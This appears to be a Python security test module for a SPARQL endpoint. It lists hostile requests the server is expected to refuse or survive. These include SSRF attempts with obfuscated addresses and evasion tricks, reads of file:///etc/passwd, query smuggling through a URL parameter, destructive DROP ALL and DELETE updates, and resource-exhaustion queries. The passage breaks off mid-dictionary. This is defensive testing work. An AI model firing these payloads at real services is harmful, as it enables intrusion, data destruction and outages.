"""Requests that mean harm: what each sends, and what may come back.

A case is answered by an error, or, where what it asks is harmless in truth, by exactly the
right answer. `LPORT` stands for the port of a listener that nobody may reach.
"""

import gzip
from collections.abc import Iterator
from dataclasses import dataclass, replace
from itertools import cycle
from urllib.parse import quote, urlencode

from test_engine import SERVICES

NETWORK, DEATH, PROTOCOL, OUTPUT = "network", "death", "protocol", "output"
SECONDS = 1.0  # the server's deadline
SHORT = 0.3  # the deadline that most deaths ask for
QUERY, UPDATE = "application/sparql-query", "application/sparql-update"
FORM = "application/x-www-form-urlencoded"
URL = "http://127.0.0.1:LPORT/x"
PAGE = "text/html"
TEXT_HTML = ("format", "html")

# What may come back instead of an answer.
REFUSED = (400,)
STOPPED = (504,)
BROKEN = (503, 504)  # out of memory, or a fault in the engine, before the deadline or after
TOO_DEEP = (400, 503, 504)


@dataclass(frozen=True)
class Case:
    """A request, and what may come back: an error of `statuses`, or what follows them."""

    name: str
    family: str
    statuses: tuple[int, ...]
    method: str = "GET"
    path: str = "/sparql"
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    raw: bytes | None = None  # sent as it is, instead of all that
    answer: str | None = None  # the whole body, where it is harmless
    shows: str | None = None  # what the page says as text, where it is harmless
    absent: tuple[str, ...] = ()  # what stands nowhere in the answer
    escaped: str = ""  # what stands on no page as it is
    cut: bool = False  # an answer may begin, and must then be seen to be incomplete
    hang_up: bool = False  # the server may close the connection without a word
    half_closed: bool = False  # the client says that it sends no more
    seconds: float = SECONDS  # the deadline


def by_get(name: str, family: str, query: str, *parameters: tuple[str, str], **more) -> Case:
    """Return a case that asks by the address."""
    path = "/sparql?" + urlencode([("query", query), *parameters])
    return Case(name, family, path=path, **more)


def by_form(name: str, family: str, query: str, *parameters: tuple[str, str], **more) -> Case:
    """Return a case that asks by a form."""
    return posted(name, family, FORM, urlencode([("query", query), *parameters]), **more)


def by_body(name: str, family: str, query: str, *parameters: tuple[str, str], **more) -> Case:
    """Return a case that asks by the body as it is."""
    path = "/sparql?" + urlencode(parameters) if parameters else "/sparql"
    return posted(name, family, QUERY, query, path=path, **more)


def posted(name: str, family: str, media: str, body: str, **more) -> Case:
    """Return a case that posts `body`."""
    headers = (("Content-Type", media), *more.pop("headers", ()))
    return Case(name, family, method="POST", headers=headers, body=body.encode(), **more)


ROADS = (by_get, by_form, by_body)


# N: the network

MORE_SERVICES = {
    "in describe": "DESCRIBE <URL> WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "in minus": "ASK { ?s ?p ?o MINUS { SERVICE <URL> { ?s ?p ?o } } }",
    "in optional": "SELECT * WHERE { OPTIONAL { SERVICE <URL> { ?s ?p ?o } } }",
    "in a graph": "SELECT * WHERE { GRAPH ?g { SERVICE <URL> { ?s ?p ?o } } }",
    "in itself": "SELECT * WHERE { SERVICE <URL> { SERVICE <URL> { ?s ?p ?o } } }",
    "lateral": "SELECT * WHERE { ?s ?p ?o LATERAL { SERVICE <URL> { ?s ?q ?r } } }",
    "in not exists": "ASK { FILTER NOT EXISTS { SERVICE SILENT <URL> { ?s ?p ?o } } }",
    "in having": "SELECT (1 AS ?x) {} HAVING (EXISTS { SERVICE <URL> { ?s ?p ?o } })",
    "in order by": "SELECT * { ?s ?p ?o } ORDER BY (EXISTS { SERVICE <URL> { ?s ?p ?o } })",
    "in group by": "SELECT ?x {} GROUP BY (EXISTS { SERVICE <URL> { ?s ?p ?o } } AS ?x)",
    "in a column": "SELECT (EXISTS { SERVICE <URL> { ?s ?p ?o } } AS ?x) WHERE {}",
    "in bind": "SELECT * { BIND (IF(EXISTS { SERVICE <URL> { ?s ?p ?o } }, 1, 2) AS ?x) }",
    "in a comment's line": "ASK { SERVICE # harmless\n SILENT # quite\n <URL> { ?s ?p ?o } }",
    "relative": "BASE <URL> ASK { SERVICE <> { ?s ?p ?o } }",
    "made of pieces": 'ASK { BIND (IRI(CONCAT("http://127.0.0.1:", "LPORT")) AS ?u) '
    "SERVICE ?u { ?s ?p ?o } }",
    "values at the end": "SELECT * WHERE { SERVICE ?u { ?s ?p ?o } } VALUES ?u { <URL> }",
    "in mixed letters": "ASK { SeRvIcE SiLeNt <URL> { ?s ?p ?o } }",
    "behind a tab": "ASK {\tSERVICE\r<URL>\n{ ?s ?p ?o } }",
    "every letter escaped": "ASK { " + "".join(f"\\u{ord(c):04x}" for c in "SERVICE")
    + " <URL> { ?s ?p ?o } }",
    "escaped in an address": "ASK { SERVICE <\\u0068ttp://127.0.0.1:LPORT/x> { ?s ?p ?o } }",
    "with a long s": "ASK { \u017fERVICE <URL> { ?s ?p ?o } }",
    "in wide letters": "ASK { \uff33\uff25\uff32\uff36\uff29\uff23\uff25 <URL> { ?s ?p ?o } }",
    "with a space of no width": "ASK { SER\u200bVICE <URL> { ?s ?p ?o } }",
    "as a prefix": "PREFIX service: <URL> ASK { service:a ?p ?o }",
    "behind a bracket in a comment": "ASK { # }\n SERVICE <URL> { ?s ?p ?o } }",
    "behind a string of three": "ASK { BIND ('''it's''' AS ?x) SERVICE <URL> { ?s ?p ?o } }",
    "with a version": 'VERSION "1.2" ASK { SERVICE <URL> { ?s ?p ?o } }',
    "by IPv6": "ASK { SERVICE <http://[::1]:LPORT/> { ?s ?p ?o } }",
    "by number": "ASK { SERVICE <http://2130706433:LPORT/> { ?s ?p ?o } }",
    "by user": "ASK { SERVICE <http://query.wikidata.org@127.0.0.1:LPORT/> { ?s ?p ?o } }",
    "of a file": "ASK { SERVICE SILENT <file:///etc/passwd> { ?s ?p ?o } }",
}  # fmt: skip
# What only looks like it, and is answered.
LETTERS = {
    "in a string": 'ASK { BIND ("SERVICE <URL> { ?s ?p ?o }" AS ?x) }',
    "in a comment": "ASK { # SERVICE <URL> { ?s ?p ?o }\n }",
    "in an address": "ASK { FILTER NOT EXISTS { <URL/service> ?p ?o } }",
    "in a long string": "ASK { BIND ('''\n' SERVICE <URL> {} ''' AS ?x) }",
}


def services() -> Iterator[Case]:
    """SERVICE in every disguise, by all roads in turn."""
    told = {f"disguise {n}": query for n, query in enumerate(SERVICES)} | MORE_SERVICES
    for (name, query), road in zip(told.items(), cycle(ROADS), strict=False):
        query = query.replace("URL", URL)
        yield road(f"service {name}", NETWORK, query, statuses=REFUSED)
    for name, query in LETTERS.items():
        query = query.replace("URL", URL)
        yield by_get(
            f"letters {name}", NETWORK, query, ("format", "csv"), statuses=(), answer="true"
        )
    page = (("Accept", PAGE),)
    query = f"ASK {{ SERVICE SILENT <{URL}> {{ ?s ?p ?o }} }}"
    yield by_form("service on a page", NETWORK, query, statuses=REFUSED, headers=page)
    yield by_get("service asked for its head", NETWORK, query, statuses=REFUSED, method="HEAD")
    both = "/sparql?" + urlencode({"query": "ASK {}"})
    yield by_form("service as a second query", NETWORK, query, path=both, statuses=REFUSED)
    twice = "/sparql?query=" + quote(query.replace("S", "%53"))
    yield Case("service encoded twice", NETWORK, REFUSED, path=twice)
    value = urlencode({"city": f'x" }} SERVICE <{URL}> {{ ?s ?p ?o }} #'})
    yield Case("service in a parameter", NETWORK, REFUSED, path=f"/queries/ties-of?{value}")


ADDRESSES = {
    "http": URL,
    "https": "https://127.0.0.1:LPORT/x",
    "ftp": "ftp://127.0.0.1:LPORT/x",
    "file": "file:///etc/passwd",
    "file of a host": "file://127.0.0.1:LPORT/etc/passwd",
    "IPv6": "http://[::1]:LPORT/",
    "IPv4 in IPv6": "http://[::ffff:127.0.0.1]:LPORT/",
    "number": "http://2130706433:LPORT/",
    "hexadecimal": "http://0x7f.0.0.1:LPORT/",
    "octal": "http://0177.0.0.1:LPORT/",
    "short": "http://127.1:LPORT/",
    "name": "http://localhost:LPORT/x.ttl",
    "user": "http://w3id.org@127.0.0.1:LPORT/",
    "ours as user": "https://w3id.org:443@127.0.0.1:LPORT/municipal-diplomacy/graph/reference",
    "gopher": "gopher://127.0.0.1:LPORT/_GET",
    "jar": "jar:http://127.0.0.1:LPORT/x!/y",
}
SEEN = "SELECT (COUNT(*) AS ?n) %s WHERE { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }"
EMPTY = "n\r\n0\r\n"


def data_sets() -> Iterator[Case]:
    """Graphs that are elsewhere: there are none, and nobody goes to look."""
    csv = ("format", "csv")
    for (kind, iri), road in zip(ADDRESSES.items(), cycle(ROADS), strict=False):
        for clause in ("FROM", "FROM NAMED"):
            query = SEEN % f"{clause} <{iri}>"
            yield road(f"{clause} by {kind}", NETWORK, query, csv, statuses=REFUSED, answer=EMPTY)
        for parameter in ("default-graph-uri", "named-graph-uri"):
            named = (parameter, iri)
            yield road(
                f"{parameter} by {kind}", NETWORK, SEEN % "", csv, named,
                statuses=REFUSED, answer=EMPTY,
            )  # fmt: skip
    for kind in ("http", "file", "IPv6", "ftp"):
        iri = ADDRESSES[kind]
        path = "/data?" + urlencode({"graph": iri})
        yield Case(f"data by {kind}", NETWORK, (400, 404), path=path)
        query = f"DESCRIBE <{iri}> FROM <{iri}>"
        nothing = ("format", "nt")
        yield by_get(f"describe by {kind}", NETWORK, query, nothing, statuses=(), answer="")
    relative = SEEN % "FROM <//127.0.0.1:LPORT/x>"
    yield by_get("FROM without a scheme", NETWORK, relative, csv, statuses=(), answer=EMPTY)
    based = f"BASE <{URL}> " + SEEN % "FROM <y>"
    yield by_get("FROM with a base", NETWORK, based, csv, statuses=(), answer=EMPTY)


UPDATES = {
    "load": "LOAD <URL>",
    "load silent": "LOAD SILENT <URL> INTO GRAPH <urn:g>",
    "load a file": "LOAD <file:///etc/passwd>",
    "insert data": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "insert by service": "INSERT { ?s ?p ?o } WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "delete data": "DELETE DATA { <urn:a> <urn:b> <urn:c> }",
    "delete where": "DELETE WHERE { ?s ?p ?o }",
    "with": "WITH <urn:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "drop": "DROP ALL",
    "drop behind a prologue": "BASE <urn:x> PREFIX e: <urn:e> # ASK {}\nDROP SILENT NAMED",
    "clear": "clear all",
    "create": "CREATE GRAPH <urn:g>",
    "copy": "COPY DEFAULT TO <urn:g>",
    "move": "MOVE <urn:g> TO DEFAULT",
    "add": "ADD <urn:g> TO DEFAULT",
    "after a query": "ASK {} ; DROP ALL",
    "escaped": "DR\\u004FP ALL",
}


def updates() -> Iterator[Case]:
    """Updates, each by two roads of six; nothing is written whichever way they come."""
    roads = cycle(
        [
            ("as query by get", lambda text, **more: by_get(query=text, **more)),
            ("as update by form", lambda text, **more: _named("update", FORM, text, **more)),
            ("as query by form", lambda text, **more: by_form(query=text, **more)),
            ("as update by body", lambda text, **more: posted(media=UPDATE, body=text, **more)),
            ("as query by body", lambda text, **more: by_body(query=text, **more)),
            ("as update by get", lambda text, **more: _named("update", None, text, **more)),
        ]
    )
    for name, text in UPDATES.items():
        for _ in range(2):
            how, road = next(roads)
            text = text.replace("URL", URL)
            yield road(text, name=f"{name} {how}", family=NETWORK, statuses=REFUSED)
        next(roads)
    both = urlencode({"query": "ASK {}", "update": "DROP ALL"})
    yield posted("an update beside a query", NETWORK, FORM, both, statuses=REFUSED)
    using = ("using-graph-uri", URL)
    yield by_get("a query with a parameter of updates", NETWORK, "ASK {}", using, statuses=REFUSED)


def _named(parameter: str, media: str | None, text: str, name: str, **more) -> Case:
    encoded = urlencode({parameter: text})
    if media is None:
        return Case(name, path=f"/sparql?{encoded}", **more)
    return posted(name, media=media, body=encoded, **more)


def writes() -> Iterator[Case]:
    """The writing half of the Graph Store Protocol, and of HTTP."""
    turtle = (("Content-Type", "text/turtle"),)
    triple = b"<urn:a> <urn:b> <urn:c> ."
    graph = "/data?" + urlencode({"graph": URL})
    for method in ("PUT", "POST", "DELETE", "PATCH"):
        more = {"method": method, "headers": turtle, "body": triple}
        yield Case(f"{method} a graph", NETWORK, (405,), path=graph, **more)
        yield Case(f"{method} the default graph", NETWORK, (405,), path="/data?default", **more)
    for method in ("PUT", "DELETE", "PATCH"):
        yield Case(f"{method} the endpoint", NETWORK, (405,), method=method, body=triple)
    context = b'{"@context": "http://127.0.0.1:LPORT/context", "@id": "urn:a"}'
    yield Case(
        "a context from elsewhere", NETWORK, (405,), "POST", graph,
        (("Content-Type", "application/ld+json"),), context,
    )  # fmt: skip
    override = (("X-HTTP-Method-Override", "DELETE"),)
    yield Case("a method in a header", NETWORK, (404,), path=graph, headers=override)


# D: death

FAR = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o ."
TEXT = "CONCAT(STR(?c), STR(?f), STR(?i), STR(?l), STR(?o))"
NEVER = f'FILTER (CONTAINS({TEXT}, "no such words"))'
ANY = "(<urn:x>|!<urn:x>)"
GROW = 'BIND (REPLACE(?a0, "a", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa") AS ?a1) '

# Before the first row, or the only one, all has to be gone through.
ENDLESS = {
    "no row fits": f"SELECT ?a WHERE {{ {FAR} {NEVER} }}",
    "no triple fits": f"CONSTRUCT {{ ?a ?b ?c }} WHERE {{ {FAR} {NEVER} }}",
    "ask of all": f"ASK {{ {FAR} {NEVER} }}",
    "describe of none": f"DESCRIBE ?a WHERE {{ {FAR} {NEVER} }}",
    "count": f"SELECT (COUNT(*) AS ?x) WHERE {{ {FAR} }}",
    "sum": f"SELECT (SUM(STRLEN(STR(?c))) AS ?x) WHERE {{ {FAR} }}",
    "least": f"SELECT (MIN(?o) AS ?x) WHERE {{ {FAR} }}",
    "sample": f"SELECT (SAMPLE(?o) AS ?x) WHERE {{ {FAR} }}",
    "having": f"SELECT ?a (COUNT(*) AS ?x) {{ {FAR} }} GROUP BY ?a HAVING (COUNT(*) < 0)",
    "offset": f"SELECT * WHERE {{ {FAR} }} OFFSET 9223372036854775807",
    "minus": f"SELECT ?a WHERE {{ {FAR} MINUS {{ ?a ?y ?z }} }}",
    "not exists": f"SELECT ?a WHERE {{ {FAR} FILTER NOT EXISTS {{ ?a ?y ?z }} }}",
    "exists of all": f"ASK {{ ?s ?p ?q FILTER EXISTS {{ {FAR} {NEVER} }} }}",
    "optional of all": f"SELECT * WHERE {{ ?s ?p ?q OPTIONAL {{ {FAR} {NEVER} }} }}",
    "union of all": f"SELECT * WHERE {{ {{ {FAR} {NEVER} }} UNION {{ {FAR} {NEVER} }} }}",
    "in graphs": f"SELECT * WHERE {{ GRAPH ?y {{ {FAR} }} {NEVER} }}",
    "lateral of all": f"SELECT * WHERE {{ ?s ?p ?q LATERAL {{ {FAR} {NEVER} }} }}",
    "subselects": f"SELECT ?s {{ ?s ?p ?q {{ SELECT (COUNT(*) AS ?x) {{ {FAR} }} }} }}",
    "regex of all": f'ASK {{ {FAR} FILTER REGEX(CONCAT(STR(?a), STR(?o)), "^(a|b|ab)*c$") }}',
    "random": f"ASK {{ {FAR} FILTER (RAND() > STRLEN({TEXT})) }}",
    "uuid": f"ASK {{ {FAR} FILTER (STRUUID() = {TEXT}) }}",
    "hashes": f'ASK {{ {FAR} FILTER (SHA512({TEXT}) = "x") }}',
    "times": f"ASK {{ {FAR} FILTER (YEAR(NOW()) < STRLEN({TEXT}) - 100000) }}",
    "closures": f"SELECT (COUNT(*) AS ?x) {{ ?a {ANY}* ?b . ?c {ANY}* ?d . ?e {ANY}* ?f }}",
    "closures of closures": f"SELECT (COUNT(*) AS ?x) {{ ?a ({ANY}+/({ANY}*)*)* ?b . "
    f"?c ({ANY}*/^{ANY}*)* ?d . ?e {ANY}+ ?f }}",
    "closures from everywhere": f"ASK {{ {FAR} ?a ({ANY}|^{ANY})* ?o {NEVER} }}",
    "optional steps": f"SELECT (COUNT(*) AS ?x) {{ ?a {'/'.join([f'{ANY}?'] * 12)} ?b . "
    f"?c ({ANY}|^{ANY})* ?d . ?e ({ANY}|^{ANY})* ?f }}",
}  # fmt: skip
# What has to be held in memory, all of it, before there is an answer.
HOARDS = {
    "order": f"SELECT * WHERE {{ {FAR} }} ORDER BY ?o ?l ?i",
    "order for one row": f"SELECT ?a WHERE {{ {FAR} }} ORDER BY CONCAT(STR(?o), STR(?l)) LIMIT 1",
    "distinct and counted": f"SELECT (COUNT(DISTINCT *) AS ?x) WHERE {{ {FAR} }}",
    "distinct in a subselect": "SELECT (COUNT(*) AS ?x) { { SELECT DISTINCT * "
    f"WHERE {{ {FAR} }} }} }}",
    "one long text": f"SELECT (GROUP_CONCAT(STR(?a)) AS ?x) WHERE {{ {FAR} }}",
    "one long text counted": f"SELECT (STRLEN(GROUP_CONCAT(STR(?o))) AS ?x) WHERE {{ {FAR} }}",
    "distinct text": f"SELECT (GROUP_CONCAT(DISTINCT CONCAT(STR(?a), STR(?d))) AS ?x) {{ {FAR} }}",
    "groups": f"SELECT ?a ?d ?g ?j (COUNT(*) AS ?x) {{ {FAR} }} GROUP BY ?a ?d ?g ?j",
    "groups by uuid": f"SELECT ?x (COUNT(*) AS ?n) {{ {FAR} }} GROUP BY (UUID() AS ?x)",
    "uuid and ordered": f"SELECT ?x {{ {FAR} BIND (UUID() AS ?x) }} ORDER BY ?x",
}  # fmt: skip
# Rows come at once, and never end.
STREAMS = {
    "all": f"SELECT * WHERE {{ {FAR} }}",
    "distinct": f"SELECT DISTINCT * WHERE {{ {FAR} }}",
    "reduced": f"SELECT REDUCED ?a ?o WHERE {{ {FAR} }}",
    "limit": f"SELECT * WHERE {{ {FAR} }} LIMIT 9223372036854775807",
    "uuid": f"SELECT ?x WHERE {{ {FAR} BIND (UUID() AS ?x) }}",
    "texts": f"SELECT ?x WHERE {{ {FAR} BIND (CONCAT(STR(?a), STR(?d), STR(?o)) AS ?x) }}",
    "wide": f"SELECT * WHERE {{ {FAR} ?p ?q ?r . ?s ?t ?u . ?v ?w ?x }}",
    "one match and never another": f"SELECT * WHERE {{ {{}} UNION {{ {FAR} {NEVER} }} }}",
}
TRIPLE_STREAMS = {
    "construct": f"CONSTRUCT {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }} WHERE {{ {FAR} }}",
    "construct of new nodes": f"CONSTRUCT {{ [] ?b ?c . [] ?e [ ?n ?o ] }} WHERE {{ {FAR} }}",
    "describe": f"DESCRIBE * WHERE {{ {FAR} }}",
}
ROW_FORMATS = ("json", "xml", "csv", "tsv")
GRAPH_FORMATS = ("turtle", "ntriples", "jsonld", "rdfxml", "trig", "nquads")
DEADLINE = ("timeout", f"{SHORT}")


def deaths() -> Iterator[Case]:
    """Queries that never end; most ask for a shorter deadline, to spare the tests' time."""
    short = {"statuses": (503, 504), "seconds": SHORT}
    for (name, query), road in zip(ENDLESS.items(), cycle(ROADS), strict=False):
        yield road(f"endless: {name}", DEATH, query, DEADLINE, **short)
    for (name, query), road in zip(HOARDS.items(), cycle(ROADS), strict=False):
        yield road(f"hoard: {name}", DEATH, query, DEADLINE, **short)
    for name in ("count", "closures"):
        yield by_get(f"endless to the end: {name}", DEATH, ENDLESS[name], statuses=STOPPED)
    for name in ("order", "one long text"):
        yield by_get(f"hoard to the end: {name}", DEATH, HOARDS[name], statuses=BROKEN)


def streams() -> Iterator[Case]:
    """Answers that begin and never end, in every format."""
    stopped = {"statuses": (422, 503, 504), "cut": True, "seconds": SHORT}
    for name, query in STREAMS.items():
        yield by_get(f"stream: {name}", DEATH, query, DEADLINE, **stopped)
    for syntax in ROW_FORMATS:
        asked = (DEADLINE, ("format", syntax))
        yield by_get(f"stream of rows as {syntax}", DEATH, STREAMS["all"], *asked, **stopped)
    page = {**stopped, "cut": False, "shows": "are shown"}  # of a page the beginning is enough
    asked = (DEADLINE, TEXT_HTML)
    yield by_get("stream of rows on a page", DEATH, STREAMS["all"], *asked, **page)
    page["shows"] = "is shown"
    triples = TRIPLE_STREAMS["construct"]
    yield by_form("stream of triples on a page", DEATH, triples, *asked, **page)
    for name, query in TRIPLE_STREAMS.items():
        yield by_form(f"stream: {name}", DEATH, query, DEADLINE, **stopped)
    for syntax in GRAPH_FORMATS:
        asked = (DEADLINE, ("format", syntax))
        query = TRIPLE_STREAMS["construct"]
        yield by_body(f"stream of triples as {syntax}", DEATH, query, *asked, **stopped)
    packed = (("Accept-Encoding", "gzip"),)
    query = STREAMS["all"]
    yield by_get("stream, compressed", DEATH, query, DEADLINE, headers=packed, **stopped)
    yield replace(by_get("stream to the end", DEATH, query, **stopped), seconds=SECONDS)
    for syntax in ("json", "csv", "tsv"):  # HTTP/1.0 cannot say that something is missing
        path = by_get("", DEATH, query, DEADLINE, ("format", syntax), statuses=()).path
        old = f"GET {path} HTTP/1.0\r\n\r\n".encode()
        yield Case(f"stream to an old client as {syntax}", DEATH, raw=old, **stopped)


def long_pages() -> Iterator[Case]:
    """Answers that are small for the engine, and much to write on a page, which has a deadline."""
    page = {"statuses": (422, 503, 504), "shows": "shown here"}
    names = " ".join(f"?a{n}" for n in range(100))
    same = " ".join(f"BIND (<urn:{n}> AS ?a{n})" for n in range(100))
    base = "https://w3id.org/municipal-diplomacy/id/place/"
    unlike = " ".join(
        f'BIND (IRI(CONCAT("{base}{n}/", STR(?o), STR(?l))) AS ?a{n})' for n in range(100)
    )
    texts = 'BIND ("aaaa" AS ?a0) ' + _chain("BIND (CONCAT(?a0, ?a0) AS ?a1) ", 17)
    for name, query in {
        "many columns": f"SELECT {names} WHERE {{ {FAR} {same} }}",
        "many addresses": f"SELECT {names} WHERE {{ {FAR} {unlike} }}",
        "long texts": f"SELECT ?a17 WHERE {{ {texts} {FAR} }}",
        "long texts in triples": f"CONSTRUCT {{ ?a ?b ?a17 }} WHERE {{ {texts} {FAR} }}",
    }.items():
        yield by_form(f"a page of {name}", DEATH, query, TEXT_HTML, **page)


def _chain(step: str, number: int) -> str:
    """Return `step` repeated, each of which takes ?a0 and makes ?a1 of it."""
    return "".join(
        step.replace("?a1", f"?a{n + 1}").replace("?a0", f"?a{n}") for n in range(number)
    )


# At once twelve rows of a megabyte.
MANY_BYTES = (
    'SELECT ?a18 WHERE { BIND ("aaaa" AS ?a0) '
    + _chain("BIND (CONCAT(?a0, ?a0) AS ?a1) ", 18)
    + "?s ?p ?o } LIMIT 12"
)


def growths() -> Iterator[Case]:
    """Texts that grow until the memory is gone."""
    first = 'BIND ("aaaa" AS ?a0) '
    lengths = {
        "replaced": (GROW, 8),
        "doubled": ("BIND (CONCAT(?a0, ?a0) AS ?a1) ", 60),
        "times ten": (f"BIND (CONCAT({', '.join(['?a0'] * 10)}) AS ?a1) ", 20),
        "encoded": ('BIND (ENCODE_FOR_URI(CONCAT(?a0, "%", ?a0)) AS ?a1) ', 50),
        "groups of a regex": ('BIND (REPLACE(?a0, "(.*)", "$1$1$1$1$1$1$1$1") AS ?a1) ', 20),
        "between all letters": ('BIND (REPLACE(?a0, "", ?a0) AS ?a1) ', 12),
    }
    for name, (step, number) in lengths.items():
        query = f"SELECT (STRLEN(?a{number}) AS ?x) WHERE {{ {first}{_chain(step, number)}}}"
        yield by_form(f"growth: {name}", DEATH, query, statuses=BROKEN)
    doubled = _chain("BIND (CONCAT(?a0, ?a0) AS ?a1) ", 22)
    # A text of 16 MB may be answered; the server's own memory is looked at in the end.
    long = {"statuses": (422, 503, 504), "cut": True, "shows": "aaaa"}
    first_and_more = first + _chain("BIND (CONCAT(?a0, ?a0) AS ?a1) ", 22)
    for syntax in ("json", "csv", "html"):
        query = f"SELECT ?a22 WHERE {{ {first_and_more} }}"
        yield by_form(f"growth: 16 MB as {syntax}", DEATH, query, ("format", syntax), **long)
    query = f"CONSTRUCT {{ <urn:a> <urn:b> ?a22 }} WHERE {{ {first_and_more} }}"
    yield by_form("growth: 16 MB as turtle", DEATH, query, **long)
    big = f"SELECT ?a22 WHERE {{ {first}{doubled}?s ?p ?o }}"
    yield by_form("growth: in every row", DEATH, big, statuses=(422, 503, 504), cut=True)
    ask = f'ASK {{ {first}{doubled}?s ?p ?o FILTER (REGEX(?a22, "(a+)+b")) }}'
    yield by_form("growth: and searched", DEATH, ask, statuses=BROKEN)
    upper = f"ASK {{ {first}{doubled}?s ?p ?o FILTER (UCASE(?a22) = LCASE(?a22)) }}"
    yield by_form("growth: in other letters", DEATH, upper, statuses=BROKEN)


def plans() -> Iterator[Case]:
    """What is hard to read or to plan: an error by the deadline, or the right answer before."""
    star = " . ".join(f"?s <urn:p{n}> ?o{n}" for n in range(500))
    chain = " . ".join(f"?s{n} ?p{n} ?s{n + 1}" for n in range(500))
    rows = " ".join(f'("{n}" {n})' for n in range(3000))
    plan = {
        "500 patterns in a star": f"ASK {{ {star} }}",
        "500 patterns in a chain": f"ASK {{ {chain} FILTER (?s0 = 1) }}",
        "300 properties of one": "ASK { ?s " + " ; ".join(f"<urn:{n}> ?v{n}" for n in range(300))
        + " }",
        "300 collections": "ASK { " + " . ".join(["(1 2 3) <urn:p> (4 5)"] * 300) + " }",
        "a collection of 3,000": "ASK { (" + "1 " * 3000 + ") <urn:p> 1 }",
        "collections in 90 levels": "ASK { " + "(" * 90 + "1" + ")" * 90 + " <urn:p> 1 }",
        "nameless in 90 levels": "ASK { " + "[ <urn:p> " * 90 + "1" + " ]" * 90 + " }",
        "3,000 nameless": "ASK { " + "[] <urn:p> [] . " * 3000 + "}",
        "a path of 2,000 steps": "ASK { ?s " + "/".join(["<urn:p>"] * 2000) + " ?o }",
        "a path of 2,000 optional steps": "ASK { <urn:s> "
        + "/".join(["<urn:p>?"] * 2000) + " <urn:o> }",
        "a path of 3,000 choices": "ASK { <urn:s> "
        + "|".join(f"<urn:p{n}>" for n in range(3000)) + " ?o }",
        "a path that is not one of 3,000": "ASK { <urn:s> !("
        + "|".join(f"<urn:p{n}>" for n in range(3000)) + ") ?o }",
        "500 optionals": "ASK { <urn:s> <urn:p> ?o "
        + " ".join(f"OPTIONAL {{ ?o <urn:p{n}> ?o{n} }}" for n in range(500)) + " }",
        "500 minus": "ASK { <urn:s> <urn:p> ?o " + "MINUS { ?o <urn:p> ?x } " * 500 + "}",
        "500 not exists": "ASK { <urn:s> <urn:p> ?o "
        + "FILTER NOT EXISTS { ?o <urn:p> ?x } " * 500 + "}",
        "500 subselects": "ASK { <urn:s> <urn:p> ?o "
        + "{ SELECT (COUNT(*) AS ?x) { <urn:s> <urn:p> ?y } } " * 500 + "}",
        "400 graphs": "ASK { " + "GRAPH ?g { ?s <urn:p> ?o } " * 400 + "}",
        "2,000 filters": "ASK { <urn:s> <urn:p> ?o " + "FILTER (?o > 1) " * 2000 + "}",
        "3,000 rows of values, twice": "ASK { "
        + f"VALUES (?a ?b) {{ {rows} }} VALUES (?a ?c) {{ {rows} }} FILTER (?b = ?c + 1) }}",
        "one of 15,000": "ASK { <urn:s> <urn:p> ?o FILTER (?o IN ("
        + ", ".join(str(n) for n in range(15000)) + ")) }",
        "1,000 columns": "ASK { { SELECT "
        + " ".join(f"(1 AS ?v{n})" for n in range(1000)) + " { <urn:s> <urn:p> ?o } } }",
        "1,000 groups": "ASK { { SELECT (COUNT(*) AS ?x) { <urn:s> <urn:p> ?o } GROUP BY "
        + " ".join(f"(?o + {n} AS ?g{n})" for n in range(1000)) + " } }",
        "5,000 prefixes": "".join(f"PREFIX p{n}: <urn:{n}>\n" for n in range(5000))[:90_000]
        .rpartition("\n")[0] + " ASK { <urn:s> <urn:p> 1 }",
        "a name of 90,000 signs": "ASK { ?" + "x" * 90_000 + " <urn:p> 1 }",
        "an address of 90,000 signs": "ASK { <urn:" + "x" * 90_000 + "> <urn:p> 1 }",
    }  # fmt: skip
    for (name, query), road in zip(plan.items(), cycle((by_form, by_body)), strict=False):
        yield road(
            f"plan: {name}", DEATH, query, ("format", "csv"), ("timeout", f"{SHORT}"),
            statuses=TOO_DEEP, answer="false", seconds=SHORT,
        )  # fmt: skip
    tables = " ".join(
        f"VALUES ?v{n} {{ {' '.join(str(k) for k in range(300))} }}" for n in range(5)
    )
    query = f"SELECT (COUNT(*) AS ?x) WHERE {{ {tables} }}"
    yield by_form("plan: five tables", DEATH, query, DEADLINE, statuses=BROKEN, seconds=SHORT)


# What opens, what stands in the middle, what closes, and what goes round it.
NESTINGS = {
    "braces": ("{ ", "", " }", "ASK {{ {} }}"),
    "parentheses": ("(", "true", ")", "ASK {{ FILTER ({}) }}"),
    "collections": ("(", "1", ")", "ASK {{ {} <urn:p> 1 }}"),
    "nameless": ("[ <urn:p> ", "1", " ]", "ASK {{ {} }}"),
    "optionals": ("OPTIONAL { ", "", " }", "ASK {{ {} }}"),
    "unions": ("{ {} UNION ", "{}", " }", "ASK {{ {} }}"),
    "not exists": ("FILTER NOT EXISTS { ", "", " }", "ASK {{ {} }}"),
    "minus": ("MINUS { ?s ?p ?o ", "", " }", "ASK {{ {} }}"),
    "graphs": ("GRAPH ?g { ", "", " }", "ASK {{ {} }}"),
    "subselects": ("{ SELECT * WHERE ", "{}", " }", "ASK {{ {} }}"),
    "functions": ("STR(", "1", ")", "ASK {{ FILTER ({} = 1) }}"),
    "conditions": ("IF(true, 1, ", "1", ")", "ASK {{ FILTER ({} = 1) }}"),
    "paths": ("(", "<urn:p>", ")*", "ASK {{ ?s {} ?o }}"),
    "inverse paths": ("^(", "<urn:p>", ")", "ASK {{ ?s {} ?o }}"),
    "no": ("!", "true", "", "ASK {{ FILTER ({}) }}"),
    "less": ("- ", "1", "", "ASK {{ FILTER ({} = 1) }}"),
    "or": ("true || ", "true", "", "ASK {{ FILTER ({}) }}"),
    "and": ("true && ", "true", "", "ASK {{ FILTER ({}) }}"),
    "sums": ("1 + ", "1", "", "SELECT ({} AS ?x) WHERE {{}}"),
    "triples in triples": ("<< ?s ?p ", "?o", " >>", "ASK {{ {} ?q ?r }}"),
    "triple terms": ("<<( ?s ?p ", "?o", " )>>", "ASK {{ ?q ?r {} }}"),
